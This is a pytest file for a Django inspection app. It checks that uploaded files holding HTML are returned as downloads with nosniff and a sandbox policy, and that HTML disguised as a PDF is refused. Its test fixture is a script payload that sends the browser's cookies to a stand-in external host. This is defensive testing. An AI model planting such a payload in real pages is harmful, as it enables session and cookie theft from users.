"""Uploaded documents are never served as a page: an HTML file renamed .txt or .csv is valid text and is
accepted, so every download route must send it as an attachment, with a type that is not HTML and `nosniff`
(a browser must not guess HTML from the bytes). The inspection pages list documents without serving them:
the API and the monitoring updates are the download routes."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from openpeel.inspections.audit import acting_as
from openpeel.monitoring import tracking

HTML = b"<!doctype html><html><body><script>document.location='https://example.org/?'+document.cookie</script>\n"
HOSTILE = [("notes.txt", "text/plain"), ("figures.csv", "text/csv")]  # both pass the validators as text


def assert_served_as_a_download(response, name: str, content_type: str):
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;") and name in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].split(";")[0] == content_type
    assert b"".join(response.streaming_content) == HTML  # the bytes as uploaded, not rendered or rewritten


@pytest.mark.parametrize(("name", "content_type"), HOSTILE)
def test_an_api_document_holding_html_is_a_download(world, client, name, content_type):
    token = {"Authorization": f"Bearer {world.tokens['inspector']}"}
    upload = {"file": SimpleUploadedFile(name, HTML), "title": "Hostile", "effective_date": "2024-03-01"}
    made = client.post(reverse("api:documents-create", args=[world.draft.pk]), upload, headers=token)
    assert made.status_code == 201, made.content
    url = reverse("api:documents-file", kwargs={"inspection_id": world.draft.pk, "part_id": made.json()["id"]})
    response = client.get(url, headers=token)
    assert_served_as_a_download(response, name, content_type)
    assert "sandbox" in response["Content-Security-Policy"]


def test_html_under_a_binary_name_is_refused(world, client):
    token = {"Authorization": f"Bearer {world.tokens['inspector']}"}
    upload = {"file": SimpleUploadedFile("policy.pdf", HTML), "title": "Hostile", "effective_date": "2024-03-01"}
    refused = client.post(reverse("api:documents-create", args=[world.draft.pk]), upload, headers=token)
    assert refused.status_code == 422 and "policy.pdf" in refused.json()["error"]["message"]


@pytest.mark.parametrize(("name", "content_type"), HOSTILE)
def test_a_monitoring_update_holding_html_is_a_download(world, client, name, content_type):
    with acting_as(world.users["liaison"]):
        update = tracking.post_update(
            world.recommendation_item,
            by=world.users["liaison"],
            text="See the file.",
            document=SimpleUploadedFile(name, HTML),
        )
    client.force_login(world.users["inspector"])
    assert_served_as_a_download(client.get(reverse("monitoring:update-document", args=[update.pk])), name, content_type)
